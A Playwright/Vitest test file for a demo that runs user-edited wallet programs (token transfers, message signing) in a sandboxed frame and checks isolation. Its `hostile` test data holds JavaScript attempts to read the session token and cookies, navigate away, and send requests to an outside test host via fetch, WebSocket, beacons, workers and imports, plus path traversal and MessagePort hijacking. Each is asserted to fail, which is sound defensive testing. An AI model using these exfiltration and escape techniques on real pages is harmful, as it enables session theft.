/** Programs that are edited and run beside their forms: in a worker that reaches the backend, and nothing of the demo. */
import { afterAll, assert, beforeAll, describe, it } from "vitest"
import { isDeep } from "../../scripts/deep.ts"
import { eachTest, inaccessible, network, type Visitor } from "./app.ts"
import { elsewhere, type Elsewhere } from "./elsewhere.ts"

const visitor = eachTest()

const somewhere = "0x00000000000000000000000000000000000000e7"
const transfer = `/transfertoken?network=${network}&token=native&amount=7&recipient=${somewhere}`

/** Runs a program in the place of the one that is shown, and answers the lines that it came to; stopped after the first, or ended. */
const outcome = async (
  { page }: Visitor,
  title: string,
  program?: string,
  isStopped = false
): Promise<ReadonlyArray<string>> => {
  if (program !== undefined) await page.getByLabel(`${title}: program to run`).fill(program)
  await page.getByRole("button", { name: "Run program" }).click()
  const output = page.getByRole("log", { name: `${title}: output` })
  if (isStopped) {
    await output.locator("[data-kind]").first().waitFor()
    await page.getByRole("button", { name: "Stop" }).click()
  } else {
    await output.locator("[data-kind=end]").waitFor()
  }
  await page.locator("iframe[title='A program']").waitFor({ state: "detached" })
  return output.locator("[data-kind]").allInnerTexts()
}

describe("a program that is run", () => {
  it("sends what the form holds, with a session of its own, and signs as an Effect", async () => {
    const _ = visitor()
    const { page } = _
    await _.signIn(transfer)
    const session = await page.evaluate("localStorage.getItem('okto_session')")
    await page.getByRole("button", { name: "Run", exact: true }).click()
    const lines = await outcome(_, "Transfer a token")
    assert.include(lines, "POST /execute → 200")
    assert.match(lines.join("\n"), /SUCCESSFUL.*0x[0-9a-f]{64}/)
    assert.strictEqual(lines.at(-1), "Done.")
    assert.strictEqual(await page.evaluate("localStorage.getItem('okto_session')"), session)
    assert.deepStrictEqual(await inaccessible(page), [])

    await _.turnTo("/home")
    const panel = page.getByRole("region", { name: "Code: Sign a message" })
    await panel.getByRole("tab", { name: "Effect" }).click()
    await panel.getByRole("button", { name: "Run", exact: true }).click()
    assert.match((await outcome(_, "Sign a message")).join("\n"), /0x[0-9a-f]{130}/)
  })

  it("sends a raw transaction from the guest's address, not from the user's", async () => {
    const _ = visitor()
    const { page } = _
    await _.signIn(`/rawtransaction?network=${network}&to=${somewhere}&value=7`)
    await page.getByLabel("Sender").and(page.locator("[value^='0x']")).waitFor()
    const sender = await page.getByLabel("Sender").inputValue()
    await page.getByRole("button", { name: "Run", exact: true }).click()
    const editor = page.getByLabel("Send a raw EVM transaction: program to run")
    await editor.waitFor()
    assert.notInclude(await editor.inputValue(), sender)
    const lines = await outcome(_, "Send a raw EVM transaction")
    assert.match(lines.join("\n"), /SUCCESSFUL.*0x[0-9a-f]{64}/)
  })

  it("says what it failed with", async () => {
    const _ = visitor()
    await _.signIn(transfer)
    await _.page.getByRole("button", { name: "Run", exact: true }).click()
    const imports = await outcome(_, "Transfer a token", `import { something } from "somewhere"\n`)
    assert.match(imports.at(-1) ?? "", /There is no module somewhere here/)
    const throws = await outcome(_, "Transfer a token", "setTimeout(() => nobody()); await new Promise(() => {})", true)
    assert.match(throws.join(), /ReferenceError: nobody is not defined/)
    const fails = await outcome(_, "Transfer a token", "somebody()")
    assert.strictEqual(fails.at(-1), "ReferenceError: somebody is not defined")
  })

  it("is not run in a frame that somebody else makes, with the demo's origin", async () => {
    const _ = visitor()
    const { page } = _
    await _.visit("/")
    const said = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const frame = document.createElement("iframe")
          const { port1, port2 } = new MessageChannel()
          port1.addEventListener("message", ({ data }) => resolve(data))
          port1.start()
          const start = { _tag: "Start", program: `localStorage.setItem("loose", "yes")` }
          frame.addEventListener("load", () => frame.contentWindow?.postMessage(start, "*", [port2]))
          frame.src = "/runner.html"
          document.body.append(frame)
        })
    )
    assert.deepStrictEqual(said, { _tag: "Ended", failure: "Error: This frame has an origin: nothing is run in it" })
    assert.isNull(await page.evaluate("localStorage.getItem('loose')"))
  })

  it("is stopped on demand", async () => {
    const _ = visitor()
    const { page } = _
    await _.visit("/home")
    const panel = page.getByRole("region", { name: "Code: Sign a message" })
    await panel.getByRole("button", { name: "Run", exact: true }).click()
    await panel.getByLabel("Sign a message: program to run").fill(`console.log("begun"); await new Promise(() => {})`)
    await panel.getByRole("button", { name: "Run program" }).click()
    await panel.getByText("begun", { exact: true }).waitFor()
    await page.locator("iframe").waitFor({ state: "attached" })
    await panel.getByRole("button", { name: "Stop" }).click()
    await page.locator("iframe").waitFor({ state: "detached" })
  })
})

/** What programs try that mean harm. `tried` prints what became of an attempt; `there` is a host of theirs. */
const hostile: Readonly<Record<string, string>> = {
  "navigates its frame": `
tried("href", () => { location.href = there + "href" })
tried("assign", () => location.assign(there + "assign"))
tried("history", () => history.pushState(null, "", there))
tried("link", () => { const a = document.createElement("a"); a.href = there + "link"; a.click() })
tried("form", () => { const form = document.createElement("form"); form.action = there + "form"; document.body.append(form); form.submit() })
tried("refresh", () => { document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=' + there + 'refresh">' })`,
  "navigates the page, and opens others": `
tried("top", () => { top.location.href = there + "top" })
tried("parent", () => { parent.location = there + "parent" })
tried("open", () => open(there + "open"))
tried("demo", () => parent.document.title)
tried("cookies", () => document.cookie)
tried("own storage", () => sessionStorage.length)
tried("session", () => localStorage.getItem("okto_session"))`,
  "reaches other hosts": `
await tried("fetch", () => fetch(there + "fetch"))
await tried("another fetch", () => Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, there + "fetch2"))
await tried("XMLHttpRequest", () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = () => reject(new Error("forbidden")); request.open("GET", there + "xhr"); request.send() }))
await tried("socket", () => new Promise((resolve, reject) => { const socket = new WebSocket(there.replace("http", "ws") + "socket"); socket.onopen = resolve; socket.onerror = () => reject(new Error("forbidden")) }))
await tried("events", () => new Promise((resolve, reject) => { const source = new EventSource(there + "events"); source.onopen = resolve; source.onerror = () => reject(new Error("forbidden")) }))
await tried("import", () => import(there + "import"))
await tried("import of the demo's", () => import(demo + "/colorScheme.js"))
await tried("importScripts", () => importScripts(there + "scripts"))
await tried("beacon", () => navigator.sendBeacon(there + "beacon"))
await tried("picture", () => { new Image().src = there + "picture" })
await tried("worker", () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + there + "worker').then(() => postMessage('reached'), () => postMessage('forbidden'))"]))); worker.onmessage = ({ data }) => data === "reached" ? resolve(data) : reject(new Error(data)) }))`,
  "reaches the sandbox's own paths": `
await tried("control", () => fetch(demo + "/__sandbox/users"))
await tried("out of the backend", () => fetch(demo + "/api/oc/../../__sandbox/users"))
await tried("the demo", () => fetch(demo + "/"))`,
  "opens peer connections": `
await tried("WebRTC", () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.test" }] }); peer.createDataChannel("x"); return peer.createOffer() })`,
  "takes the port": `
const ports = []
const take = (event) => { for (const port of event.ports ?? []) ports.push(port) }
addEventListener("message", take)
for (const name of ["postMessage", "start", "addEventListener"]) {
  const own = MessagePort.prototype[name]
  MessagePort.prototype[name] = function (...given) { ports.push(this); return own.apply(this, given) }
}
console.log("a word")
await fetch(demo + "/elsewhere").catch(() => undefined)
await tried("port", () => ports[0].postMessage({ _tag: "Printed", text: "taken", isError: false }))
await tried("broadcast", () => { if (ports.length > 0) throw new Error("no"); return Promise.reject(new Error(new BroadcastChannel("okto-sandbox:/").name)) })`
}

describe("a hostile program", () => {
  let host: Elsewhere
  beforeAll(async () => {
    host = await elsewhere()
  })
  afterAll(() => host.close())

  const open = async (): Promise<Visitor> => {
    const _ = visitor()
    await _.signIn(transfer)
    await _.page.getByRole("button", { name: "Run", exact: true }).click()
    return _
  }

  for (const [does, program] of Object.entries(hostile)) {
    it(`gets nowhere when it ${does}`, async () => {
      const _ = await open()
      const { page } = _
      const address = page.url()
      const heard = host.heard.length
      const lines = await outcome(
        _,
        "Transfer a token",
        `const there = "${host.url}", demo = "${new URL(address).origin}"
const tried = async (name, what) => console.log("tried", name, await (async () => what())().then((value) => value === null ? "nothing" : "worked", (error) => "failed"))
${program}
`
      )
      const tried = lines.filter((line) => line.startsWith("tried "))
      assert.isNotEmpty(tried)
      assert.deepStrictEqual(
        tried.filter((line) => !/ (failed|nothing)$/.test(line)),
        []
      )
      assert.strictEqual(lines.at(-1), "Done.")
      assert.notInclude(lines, "taken")
      assert.deepStrictEqual(host.heard.slice(heard), [])
      assert.strictEqual(page.url(), address)
      assert.lengthOf(
        page
          .context()
          .pages()
          .filter((one) => one.url().startsWith(host.url)),
        0
      )
      // The browser says what the policy forbade.
      assert.deepStrictEqual(
        _.complaints.filter((text) => !/Content Security Policy|violates/.test(text)),
        []
      )
      _.complaints.length = 0
    })
  }

  it("has no token of the user's, and is a guest", async () => {
    const _ = await open()
    const { page } = _
    const text = await page.getByLabel("Transfer a token: program to run").inputValue()
    const payloads = [...text.matchAll(/eyJ[\w-]+\.([\w-]+)\./g)].map(([, payload = ""]): unknown =>
      JSON.parse(Buffer.from(payload, "base64url").toString())
    )
    assert.deepStrictEqual(
      payloads.map((payload) => Reflect.get(Object(payload), "sub")),
      ["guest"]
    )
    const user: unknown = JSON.parse(String(await page.evaluate("localStorage.getItem('okto_session')")))
    assert.include(text, "// A guest of the local backend: what runs here gets no token of yours.")
    assert.notInclude(text, String(Reflect.get(Object(user), "userSWA")))
  })

  it("is stopped when it never ends, and the page goes on meanwhile", async () => {
    const _ = await open()
    const { page } = _
    const lines = await outcome(_, "Transfer a token", `console.log("begun"); for (;;) {}`, true)
    assert.deepStrictEqual(lines, ["begun"])
    // Its thread ends with it.
    while (page.workers().length > 0) await page.workers()[0]?.waitForEvent("close")
    assert.include(await outcome(_, "Transfer a token", `console.log("another")`), "another")
  })

  it("is stopped when it says too much, or says that it has ended", async () => {
    const _ = await open()
    const loops = [
      `for (;;) console.log("x")`,
      `for (;;) postMessage({ any: "thing" })`,
      `console.log("x".repeat(2_000_000))`,
      `console.log("begun"); for (;;) void fetch("${new URL(_.page.url()).origin}/elsewhere")`
    ]
    for (const loop of isDeep ? loops : loops.slice(0, 2)) {
      const lines = await outcome(_, "Transfer a token", loop)
      assert.match(lines.at(-1) ?? "", /^Stopped: /, loop)
    }
    const early = await outcome(
      _,
      "Transfer a token",
      `postMessage({ _tag: "Ended" }); for (;;) postMessage({ _tag: "Printed", text: "after the end", isError: false })`
    )
    assert.deepStrictEqual(early, ["Done."])
  })
})
